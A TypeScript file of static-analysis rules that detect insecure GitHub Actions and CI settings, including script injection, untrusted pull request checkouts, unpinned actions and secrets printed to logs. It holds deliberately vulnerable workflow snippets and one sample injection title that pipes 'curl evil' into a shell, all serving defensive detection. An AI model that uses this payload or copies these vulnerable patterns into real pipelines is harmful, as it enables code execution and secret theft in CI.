/** GitHub Actions: what strangers write reaching a shell, their code run with the repository's rights, actions that move, secrets in logs. */
import type { Rule } from '../../lib/types.ts';

const danger = { category: 'infrastructure', severity: 'high' } as const;
const where = { path: { trait: 'file', of: ['workflow'] } };

export const workflowScript: Rule = {
  ...danger,
  cwe: [78, 94],
  sink: 'always',
  id: 'workflow-script-injection',
  title: 'Text of an issue or pull request in a script',
  why: 'The expression is put into the script before the shell reads it: a title such as `"; curl evil | sh #` runs with the token of the workflow.',
  fix: 'Give the value to the step as env: TITLE: ${{ … }}, and write "$TITLE" in the script (process.env.TITLE in github-script).',
  near: ['run:', 'script:'],
  find: [
    'run: $value', 'run: | $value', 'run: |- $value', 'run: |+ $value', 'run: > $value', 'run: >- $value',
    'script: $value', 'script: | $value', 'script: |- $value', 'script: > $value', 'script: >- $value',
  ],
  where: { value: 'tainted' },
  langs: ['yaml'],
  bad: {
    yaml: [
      'steps:\n  - run: echo ${{ github.head_ref }}', 'steps:\n  - run: |\n      title="${{ github.event.issue.title }}"\n      echo "$title"', 'steps:\n  - run: |-\n      git checkout ${{ github.event.pull_request.head.ref }}', 'steps:\n  - run: |+\n      git checkout ${{ github.event.pull_request.head.ref }}',
      'steps:\n  - run: >\n      echo ${{ github.event.comment.body }}', 'steps:\n  - run: >-\n      echo "${{ github.event.head_commit.message }}"', 'with:\n  script: console.log("${{ github.event.pull_request.body }}")', 'with:\n  script: |\n    const t = `${{ github.event.pull_request.title }}`;',
      'with:\n  script: |-\n    const t = "${{ github.event.discussion.title }}";', 'with:\n  script: >\n    core.info("${{ github.event.review.body }}")', 'with:\n  script: >-\n    core.info("${{ github.event.review.body }}")',
    ],
  },
  good: {
    yaml: [
      'steps:\n  - run: echo "$TITLE"\n    env:\n      TITLE: ${{ github.event.issue.title }}', 'steps:\n  - run: echo ${{ github.sha }} ${{ matrix.node }}', 'steps:\n  - name: PR ${{ github.head_ref }}\n    run: npm test',
      'with:\n  ref: ${{ github.event.pull_request.head.ref }}', 'steps:\n  - run: |\n      echo "${{ github.event.pull_request.number }}"', 'steps:\n  # run: echo ${{ github.head_ref }}\n  - run: npm ci', 'with:\n  script: require("./x")(github)',
    ],
  },
};

/** docs.github.com, "Security hardening": the inputs of an action are filled in like any expression, and callers pass titles and branches on. */
export const actionInput: Rule = {
  ...danger,
  severity: 'low',
  cwe: [78, 94],
  id: 'action-input-in-script',
  title: 'Input of an action in a script',
  why: 'The expression is put into the script before the shell reads it: whoever chooses the input, or what a caller passes on, chooses the command.',
  fix: 'Give the value to the step as env: TARGET: ${{ inputs.target }}, and write "$TARGET" in the script.',
  near: ['run:'],
  find: ['run: $value', 'run: | $value', 'run: |- $value', 'run: > $value'],
  where: { value: { all: [{ trait: 'mentions', of: ['inputs'] }, { trait: 'beside', of: ['composite'] }] } },
  langs: ['yaml'],
  bad: { yaml: ['runs:\n  using: composite\n  steps:\n    - run: make ${{ inputs.target }}\n      shell: bash', 'runs:\n  using: composite\n  steps:\n  - run: |\n      ./release.sh ${{ inputs.version }}', 'runs:\n  using: "composite"\n  steps:\n  - run: |-\n      ./release.sh ${{ inputs.version }}', 'runs:\n  using: composite\n  steps:\n  - run: >\n      ./release.sh ${{ inputs.version }}'] },
  good: { yaml: ['runs:\n  using: composite\n  steps:\n    - run: make "$TARGET"\n      shell: bash\n      env:\n        TARGET: ${{ inputs.target }}', 'jobs:\n  a:\n    steps:\n      - run: npm run ${{ inputs.task }}', 'runs:\n  using: composite\n  steps:\n    - run: make ${{ runner.os }}'] },
};

export const workflowForeignCheckout: Rule = {
  ...danger,
  cwe: [829, 250],
  sink: 'always',
  id: 'workflow-foreign-checkout',
  title: 'Code of a stranger checked out with the rights of the repository',
  why: 'pull_request_target, workflow_run and issue_comment run with secrets and a token that may write; whatever the checked-out code runs (install scripts, tests, make) has them.',
  fix: 'Build pull requests on: pull_request without secrets, and hand the result over as an artifact; or check out the base only.',
  near: ['ref:'],
  find: ['ref: $value'],
  where: { value: { all: [{ any: [{ trait: 'mentions', of: ['head', 'head_ref', 'head_sha', 'head_branch'] }, { trait: 'contains', of: ['refs/pull/'] }] }, { trait: 'beside', of: ['pull_request_target', 'workflow_run:', 'issue_comment'] }] } },
  langs: ['yaml'],
  bad: {
    yaml: [
      'on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}', 'on:\n  pull_request_target:\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.head_ref }}',
      'on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.workflow_run.head_sha }}', 'on: [issue_comment]\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ steps.pr.outputs.head_branch }}',
      'on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: refs/pull/${{ github.event.number }}/merge',
    ],
  },
  good: {
    yaml: [
      'on: pull_request\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}', 'on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.base.sha }}',
      'on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: main',
    ],
  },
};

export const workflowForeignFetch: Rule = {
  ...danger,
  cwe: [829, 250],
  severity: 'medium',
  id: 'workflow-foreign-fetch',
  title: 'Code of a stranger fetched with the rights of the repository',
  why: workflowForeignCheckout.why,
  fix: workflowForeignCheckout.fix,
  near: ['pull_request_target', 'issue_comment'],
  find: [/^on:[^#]{0,80}\b(?:pull_request_target|issue_comment)\b[^]{0,3000}?\n(?![ \t]*#)[^\n#]{0,100}?(?<value>\bgh[ \t]+pr[ \t]+checkout\b|\bgit[ \t]+fetch\b[^\n#]{0,80}\bpull\/[^\n#]{1,60}\/(?:head|merge)\b|\brepository:[ \t]*\$\{\{[^}\n]{0,60}\bhead\.repo\.)/dm],
  where,
  bad: {
    '.github/workflows/a.yml': ['on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: gh pr checkout ${{ github.event.number }}\n', 'on: [issue_comment]\njobs:\n  a:\n    steps:\n      - run: |\n          git fetch origin pull/${{ github.event.issue.number }}/head:pr\n          npm ci\n', 'on:\n  pull_request_target:\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          repository: ${{ github.event.pull_request.head.repo.full_name }}\n'],
  },
  good: {
    '.github/workflows/a.yml': ['on: pull_request\njobs:\n  a:\n    steps:\n      - run: gh pr checkout 12\n', 'on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: gh pr comment 12 --body hi\n      # - run: gh pr checkout 12\n', 'on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: git fetch origin main\n'],
    'a.yml': ['on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: gh pr checkout 12\n'],
  },
};

export const workflowUnpinned: Rule = {
  ...danger,
  cwe: [829, 494],
  severity: 'medium',
  id: 'workflow-action-branch',
  title: 'Action taken from a branch',
  why: 'Whoever can push to that branch runs code here, with the secrets and the token of the workflow.',
  fix: 'Pin the action to a full commit id and write the version behind it: uses: owner/action@<40 hex digits> # v1.2.3.',
  near: ['uses:'],
  find: [/^[ \t-]{0,40}uses:\s*["']?(?!\.{1,2}\/|docker:)[\w.-]{1,60}\/[\w./-]{1,100}@(?:main|master|HEAD|dev(?:elop)?|latest|trunk|next)["']?\s*(?:#|$)/m],
  where,
  bad: { '.github/workflows/ci.yml': ['      - uses: someone/setup-tool@main\n', '      - uses: "someone/setup-tool/sub@master" # latest\n'] },
  good: { '.github/workflows/ci.yml': ['      - uses: someone/setup-tool@{{40:hex}} # v3.1.0\n', '      - uses: actions/checkout@v4\n', '      - uses: ./.github/actions/build\n', '      # - uses: someone/setup-tool@main\n'] },
};

export const workflowTag: Rule = {
  ...workflowUnpinned,
  severity: 'low',
  id: 'workflow-action-tag',
  title: 'Action of others taken by a tag',
  why: 'A tag can be moved to other code; in 2025 the tags of a much-used action were, and it printed the secrets of its users.',
  find: [/^[ \t-]{0,40}uses:\s*["']?(?!\.{1,2}\/|docker:|actions\/|github\/)[\w.-]{1,60}\/[\w./-]{1,100}@v?\d[\w.-]{0,20}(?<![0-9a-f]{40})["']?\s*(?:#|$)/m],
  bad: { '.github/workflows/ci.yml': ['      - uses: someone/setup-tool@v3\n', '      - uses: someone/setup-tool@2.1.0 # pinned\n'] },
  good: { '.github/workflows/ci.yml': ['      - uses: someone/setup-tool@{{40:hex}} # v3.1.0\n', '      - uses: actions/checkout@v4\n', '      - uses: github/codeql-action/init@v3\n', '      - uses: ./.github/actions/build\n'], 'notes.yml': ['      - uses: someone/setup-tool@v3\n'] },
};

export const workflowWriteAll: Rule = {
  ...danger,
  cwe: [250],
  severity: 'medium',
  id: 'workflow-write-all',
  title: 'Token that may write everything',
  why: 'Every action in the workflow gets the token: one that was taken over can push, release and change settings.',
  fix: 'Start with permissions: contents: read, and give a job what it needs.',
  near: ['permissions'],
  find: ['permissions: write-all'],
  langs: ['yaml'],
  bad: { yaml: ['permissions: write-all\njobs: {}', 'jobs:\n  a:\n    permissions: write-all'] },
  good: { yaml: ['permissions: read-all', 'permissions:\n  contents: read', '# permissions: write-all'] },
};

export const workflowCommands: Rule = {
  ...danger,
  cwe: [77],
  id: 'workflow-unsecure-commands',
  title: 'Commands in the log switched on again',
  why: 'Any text that a step prints can then set environment variables and the search path of the steps after it.',
  fix: 'Take it out, and write to "$GITHUB_ENV" and "$GITHUB_PATH".',
  near: ['actions_allow_unsecure_commands'],
  find: ['ACTIONS_ALLOW_UNSECURE_COMMANDS: true', "ACTIONS_ALLOW_UNSECURE_COMMANDS: 'true'"],
  langs: ['yaml'],
  bad: { yaml: ['env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true', "env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: 'true'"] },
  good: { yaml: ['env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: false'] },
};

export const workflowSecrets: Rule = {
  ...danger,
  cwe: [200, 522],
  severity: 'high',
  id: 'workflow-all-secrets',
  title: 'All secrets handed over at once',
  why: 'The step, and every action and script in it, gets secrets that it has no use for.',
  fix: 'Name the secrets that the step needs: ${{ secrets.NPM_TOKEN }}.',
  near: ['tojson(secrets)'],
  find: [/^[^#\n]{0,150}\$\{\{\s{0,5}toJSON\(secrets\)/im],
  where,
  bad: { '.github/workflows/ci.yml': ['        env:\n          ALL: ${{ toJSON(secrets) }}\n'] },
  good: { '.github/workflows/ci.yml': ['        env:\n          A: ${{ secrets.A }}\n', '        # ${{ toJSON(secrets) }}\n'], 'docs.yml': ['          ALL: ${{ toJSON(secrets) }}\n'] },
};

export const workflowSecretShown: Rule = {
  ...danger,
  category: 'sensitive-logging',
  cwe: [532],
  severity: 'medium',
  id: 'ci-secret-shown',
  title: 'Secret printed by a build',
  why: 'Logs are read by more people than secrets are, and what masks a value in them misses every other spelling of it.',
  fix: 'Do not print it; to see whether it is set, write: test -n "$TOKEN".',
  near: ['secret', 'password', 'passwd', 'token', 'api_key'],
  find: [
    /^[^#\n]{0,80}\b(?:echo|printf)\b(?! ["']?::add-mask::)[^|>\n]{0,120}\$\{\{\s{0,5}secrets\.\w{1,60}\s{0,5}\}\}[^|>\n]{0,80}$/m,
    /^[ \t]*(?:-[ \t]+|run:[ \t]*|script:[ \t]*|RUN[ \t]+){0,3}(?:echo|printf)[ \t](?!["']?::add-mask::)[^|>\n`(]{0,120}\$\{?\w{0,40}(?:PASSWORD|PASSWD|TOKEN|SECRET|API_KEY|PRIVATE_KEY)\}?["']?[ \t]*\r?$/m,
  ],
  where: { path: { trait: 'file', of: ['workflow', 'gitlab-ci', 'dockerfile'] } },
  bad: {
    '.github/workflows/ci.yml': ['      - run: echo "${{ secrets.DEPLOY_KEY }}"\n', '      - run: |\n          echo "token $NPM_TOKEN"\n', '      - run: echo $DB_PASSWORD\n', '      - run: echo ${DB_PASSWD}\n'],
    '.gitlab-ci.yml': ['  script:\n    - echo $CI_DEPLOY_SECRET\n', '    - printf "$API_KEY"\n'],
  },
  good: {
    '.github/workflows/ci.yml': ['          echo "::add-mask::$DB_PASSWORD"\n', '      - run: echo "${{ secrets.KEY }}" | base64 -d > key\n', '      - run: echo "$NPM_TOKEN" | docker login --password-stdin\n', '      - run: echo "//registry/:_authToken=$NPM_TOKEN" > .npmrc\n', '      # echo $DB_PASSWORD\n', '        env:\n          T: ${{ secrets.T }}\n', '      - run: echo "done"\n', '      - run: echo "::add-mask::$TOKEN_ID"\n'],
    'notes.txt': ['echo $DB_PASSWORD\n'],
  },
};

/** docs.gitlab.com/ci/variables (CI_DEBUG_TRACE), docs.github.com (enabling debug logging) */
export const debugTrace: Rule = {
  ...danger,
  category: 'sensitive-logging',
  severity: 'medium',
  cwe: [532],
  id: 'ci-debug-trace',
  title: 'Log of a build with every variable in it',
  why: 'The log shows all variables of the job, secrets among them, to everyone who may read it.',
  fix: 'Switch it on by hand for one run, and delete its log.',
  near: ['ci_debug_trace', 'ci_debug_services', 'actions_step_debug', 'actions_runner_debug'],
  find: [/^[^#\n]{0,60}\b(?:CI_DEBUG_TRACE|CI_DEBUG_SERVICES|ACTIONS_STEP_DEBUG|ACTIONS_RUNNER_DEBUG)["']?[ \t]*[:=][ \t]*["']?(?:true|1)\b/m],
  where: { path: { trait: 'file', of: ['workflow', 'gitlab-ci'] } },
  bad: { '.gitlab-ci.yml': ['  CI_DEBUG_TRACE: "true"\n', '  CI_DEBUG_SERVICES: "true"\n'], '.github/workflows/ci.yml': ['  ACTIONS_STEP_DEBUG: true\n', '  ACTIONS_RUNNER_DEBUG: true\n'] },
  good: { '.gitlab-ci.yml': ['  CI_DEBUG_TRACE: "false"\n', '  # CI_DEBUG_TRACE: "true"\n'], 'a.yml': ['  CI_DEBUG_TRACE: "true"\n'] },
};

/** Scanners whose answer a build throws away. */
const CHECKS = 'npm[ \\t]+audit|yarn[ \\t]+(?:npm[ \\t]+)?audit|pnpm[ \\t]+audit|pip-audit|safety[ \\t]+(?:check|scan)|bandit|semgrep|trivy|grype|snyk|gitleaks|trufflehog|gosec|govulncheck|cargo[ \\t]+(?:audit|deny)|bundle(?:r)?[ \\t-]+audit|brakeman|checkov|tfsec|kics|hadolint|osv-scanner|dependency-check(?:\\.sh)?';

export const checkIgnored: Rule = {
  category: 'removed-guard',
  cwe: [693],
  severity: 'low',
  id: 'ci-security-check-ignored',
  title: 'Security check whose answer is thrown away',
  why: 'The build stays green whatever the check finds, so nobody reads it.',
  fix: 'Let the step fail, and except single findings by name with a reason (.trivyignore, audit exceptions); or raise the level it fails at.',
  near: ['|| true', '|| :', '|| exit 0', '--exit-zero', '--exit-code 0', '--exit-code=0', '--soft-fail'],
  find: [new RegExp(`^[^#\\n]{0,80}\\b(?:${CHECKS})\\b[^#\\n|]{0,150}(?:\\|\\|[ \\t]*(?:true|:|exit[ \\t]+0)|--exit-zero|--exit-code[= ]0\\b|--soft-fail\\b)`, 'm')],
  where: { path: { any: [{ trait: 'file', of: ['workflow', 'gitlab-ci', 'azure-pipelines'] }, { trait: 'ends', of: ['jenkinsfile', '.circleci/config.yml'] }] } },
  bad: { '.github/workflows/ci.yml': ['      - run: npm audit --audit-level=high || true\n', '      - run: bandit -r src --exit-zero\n', '      - run: trivy image --exit-code 0 shop\n', '      - run: trivy fs --exit-code=0 .\n', '      - run: semgrep ci || exit 0\n', '          pip-audit || :\n', '      - run: checkov -d . --soft-fail\n'] },
  good: { '.github/workflows/ci.yml': ['      - run: npm audit --audit-level=high\n', '      - run: rm -f a || true\n', '      # npm audit || true\n', '      - run: trivy image --exit-code 1 shop\n'], 'a.sh': ['npm audit || true\n'] },
};
